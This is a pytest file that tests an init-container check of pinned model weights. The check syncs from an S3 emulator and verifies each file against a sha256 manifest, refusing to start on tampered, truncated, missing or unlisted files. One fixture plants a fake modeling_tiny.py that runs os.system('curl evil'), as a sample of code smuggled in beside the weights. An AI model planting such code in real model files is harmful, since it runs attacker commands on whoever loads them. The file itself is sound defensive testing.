"""The pods' check of pinned weights, run as emitted: the init container's exact command (bash, the AWS CLI's
`aws s3 sync`, GNU `sha256sum --check`) against the S3 emulator, on a small real model (a safetensors file, its
config, a tokenizer in a subdirectory). One flipped byte, a truncated file, a missing one, or a file the manifest
does not list must refuse to start, naming it; the untouched model starts.

The image runs the AWS CLI v2 on Amazon Linux; here it is the CLI v1 from PyPI (the same `s3 sync` and filters,
https://docs.aws.amazon.com/cli/latest/reference/s3/#use-of-exclude-and-include-filters) and Debian's coreutils:
the script uses only what both have (bash >= 4 arrays and globstar, sha256sum --check --strict)."""

from __future__ import annotations

import json
import os
import shutil
import struct
import subprocess
import sys
from pathlib import Path

import pytest

from components.weights_manifest import WeightsManifest, parse_manifest, verify_command
from modelops_cli.weights import manifest_of, s3_client
from tests.aws_fakes import aws_env

BUCKET = "acme-models-verify"
LOCATION = f"s3://{BUCKET}/chat/1"


def tiny_model() -> dict[str, bytes]:
    """A real (if tiny) model: a safetensors file (8-byte header length, JSON header, little-endian float32 data;
    https://huggingface.co/docs/safetensors/index), its config, and a tokenizer file one directory down."""
    weights = struct.pack("<6f", 0.5, -1.25, 2.0, 0.0, 3.5, -0.75)
    header = json.dumps({"w": {"dtype": "F32", "shape": [2, 3], "data_offsets": [0, len(weights)]}}).encode()
    return {
        "model.safetensors": struct.pack("<Q", len(header)) + header + weights,
        "config.json": json.dumps({"architectures": ["Tiny"], "hidden_size": 3}).encode(),
        "tokenizer/vocab.txt": b"[PAD]\n[UNK]\nhello\nworld\n",
    }


@pytest.fixture
def s3(moto_server, monkeypatch):
    moto_server.reset()
    aws_env(monkeypatch, moto_server.url)
    client = s3_client("us-east-1")
    client.create_bucket(Bucket=BUCKET)
    for path, content in tiny_model().items():
        client.put_object(Bucket=BUCKET, Key=f"chat/1/{path}", Body=content)
    return client


def run_check(source: str, directory: Path, manifest: WeightsManifest) -> subprocess.CompletedProcess[str]:
    """The init container's command as emitted, with the AWS CLI of this environment on PATH."""
    env = {**os.environ, "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}", "HOME": "/tmp"}
    return subprocess.run(
        verify_command(source, str(directory), manifest), env=env, capture_output=True, text=True, timeout=120
    )


def test_the_manifest_is_each_objects_sha256_under_the_prefix(s3):
    import hashlib

    manifest = manifest_of(LOCATION, s3)
    assert dict(manifest.files) == {p: hashlib.sha256(c).hexdigest() for p, c in tiny_model().items()}
    # sha256sum's own format, sorted by path; the digest is of that text
    assert manifest.text.splitlines()[0].endswith("  config.json")
    assert manifest.digest == "sha256:" + hashlib.sha256(manifest.text.encode()).hexdigest()


def test_untouched_weights_are_copied_and_start(s3, tmp_path):
    manifest = manifest_of(LOCATION, s3)
    done = run_check(LOCATION, tmp_path / "models", manifest)
    assert done.returncode == 0, done.stderr
    assert f"3 files verified against {manifest.digest}" in done.stdout
    copied = {str(p.relative_to(tmp_path / "models")) for p in (tmp_path / "models").rglob("*") if p.is_file()}
    assert copied == set(tiny_model())


@pytest.mark.parametrize(
    "tamper, named",
    [
        (lambda b: b[:20] + bytes([b[20] ^ 0x01]) + b[21:], "model.safetensors: FAILED"),  # one flipped bit
        (lambda b: b[: len(b) - 4], "model.safetensors: FAILED"),  # truncated: the last float gone
    ],
    ids=["one-flipped-byte", "truncated"],
)
def test_a_changed_object_refuses_to_start(s3, tmp_path, tamper, named):
    manifest = manifest_of(LOCATION, s3)
    original = tiny_model()["model.safetensors"]
    s3.put_object(Bucket=BUCKET, Key="chat/1/model.safetensors", Body=tamper(original))
    done = run_check(LOCATION, tmp_path / "models", manifest)
    assert done.returncode == 1
    assert named in done.stderr
    assert f"not the bytes pinned by {manifest.digest}" in done.stderr
    assert "refusing to serve" in done.stderr


def test_a_deleted_object_refuses_to_start(s3, tmp_path):
    manifest = manifest_of(LOCATION, s3)
    s3.delete_object(Bucket=BUCKET, Key="chat/1/tokenizer/vocab.txt")
    done = run_check(LOCATION, tmp_path / "models", manifest)
    assert done.returncode == 1
    assert "tokenizer/vocab.txt" in done.stderr


def test_an_object_added_under_the_prefix_is_never_copied(s3, tmp_path):
    """Code a runtime would import (`trust_remote_code`) slipped in beside pinned weights stays in S3."""
    manifest = manifest_of(LOCATION, s3)
    s3.put_object(Bucket=BUCKET, Key="chat/1/modeling_tiny.py", Body=b"import os; os.system('curl evil')\n")
    s3.put_object(Bucket=BUCKET, Key="chat/1/tokenizer/.hidden", Body=b"x")
    done = run_check(LOCATION, tmp_path / "models", manifest)
    assert done.returncode == 0, done.stderr
    assert not (tmp_path / "models" / "modeling_tiny.py").exists()
    assert not (tmp_path / "models" / "tokenizer" / ".hidden").exists()


def _mounted(tmp_path: Path) -> Path:
    """Weights already in place, as the S3 mount shows them (the check alone runs: source "")."""
    mount = tmp_path / "mount"
    for path, content in tiny_model().items():
        (mount / path).parent.mkdir(parents=True, exist_ok=True)
        (mount / path).write_bytes(content)
    return mount


def _pinned() -> WeightsManifest:
    import hashlib

    return parse_manifest({p: hashlib.sha256(c).hexdigest() for p, c in tiny_model().items()})


def test_mounted_weights_are_checked_in_place(tmp_path):
    mount = _mounted(tmp_path)
    done = run_check("", mount, _pinned())
    assert done.returncode == 0, done.stderr
    data = bytearray((mount / "config.json").read_bytes())
    data[5] ^= 0x20
    (mount / "config.json").write_bytes(bytes(data))
    done = run_check("", mount, _pinned())
    assert done.returncode == 1
    assert "config.json: FAILED" in done.stderr


@pytest.mark.parametrize("extra", ["modeling_tiny.py", "tokenizer/.hidden", "sub/dir/extra.bin"])
def test_a_mounted_file_the_manifest_does_not_list_refuses_to_start(tmp_path, extra):
    mount = _mounted(tmp_path)
    (mount / extra).parent.mkdir(parents=True, exist_ok=True)
    (mount / extra).write_bytes(b"print('hello')\n")
    done = run_check("", mount, _pinned())
    assert done.returncode == 1
    assert f"{mount}/{extra} is not in the manifest" in done.stderr


def test_the_check_runs_without_the_aws_cli_for_mounted_weights(tmp_path):
    """A mount's check needs bash and sha256sum only (the sync is skipped, not failed)."""
    mount = _mounted(tmp_path)
    bash = shutil.which("bash")
    env = {"PATH": str(Path(shutil.which("sha256sum") or "/usr/bin/sha256sum").parent)}
    done = subprocess.run(
        [bash or "/bin/bash", *verify_command("", str(mount), _pinned())[1:]], env=env, capture_output=True, text=True
    )
    assert done.returncode == 0, done.stderr


def test_a_retry_after_the_object_is_restored_fetches_it_again(s3, tmp_path):
    """The kubelet retries a failed init container on the same volume: `aws s3 sync` would keep a same-size local
    file newer than the object, so the refused bytes would be refused forever. Each attempt starts empty."""
    manifest = manifest_of(LOCATION, s3)
    good = tiny_model()["config.json"]
    s3.put_object(Bucket=BUCKET, Key="chat/1/config.json", Body=good[:-1] + b"X")  # same size, tampered
    assert run_check(LOCATION, tmp_path / "models", manifest).returncode == 1
    s3.put_object(Bucket=BUCKET, Key="chat/1/config.json", Body=good)  # restored
    done = run_check(LOCATION, tmp_path / "models", manifest)
    assert done.returncode == 0, done.stderr
    assert (tmp_path / "models" / "config.json").read_bytes() == good


def test_a_file_left_by_a_killed_copy_does_not_block_the_retry(s3, tmp_path):
    manifest = manifest_of(LOCATION, s3)
    models = tmp_path / "models"
    models.mkdir()
    (models / "model.safetensors.6aF3b2C1").write_bytes(b"partial")  # what a killed s3transfer download leaves
    (models / ".hidden-partial").write_bytes(b"partial")
    done = run_check(LOCATION, models, manifest)
    assert done.returncode == 0, done.stderr
    assert sorted(p.name for p in models.iterdir()) == ["config.json", "model.safetensors", "tokenizer"]


def test_a_listed_hidden_file_is_copied_and_checked(s3, tmp_path):
    import hashlib

    s3.put_object(Bucket=BUCKET, Key="chat/1/.gitattributes", Body=b"*.safetensors filter=lfs\n")
    manifest = manifest_of(LOCATION, s3)
    assert manifest.files[".gitattributes"] == hashlib.sha256(b"*.safetensors filter=lfs\n").hexdigest()
    done = run_check(LOCATION, tmp_path / "models", manifest)
    assert done.returncode == 0, done.stderr
    assert (tmp_path / "models" / ".gitattributes").exists()


def test_the_signature_beside_the_weights_is_neither_pinned_nor_copied_nor_refused(s3, tmp_path):
    """`model.sig` at the top of the prefix is the weights' signature, pinned in the lock (not a file the server
    loads): the manifest leaves it out, the copy skips it, and a mount that shows it still starts; one deeper down is
    a file like any other."""
    s3.put_object(Bucket=BUCKET, Key="chat/1/model.sig", Body=b"{}")
    manifest = manifest_of(LOCATION, s3)
    assert set(manifest.files) == set(tiny_model())
    done = run_check(LOCATION, tmp_path / "models", manifest)
    assert done.returncode == 0, done.stderr
    assert not (tmp_path / "models" / "model.sig").exists()
    mount = _mounted(tmp_path)
    (mount / "model.sig").write_bytes(b"{}")
    assert run_check("", mount, _pinned()).returncode == 0
    (mount / "tokenizer" / "model.sig").write_bytes(b"{}")
    done = run_check("", mount, _pinned())
    assert done.returncode == 1
    assert f"{mount}/tokenizer/model.sig is not in the manifest" in done.stderr
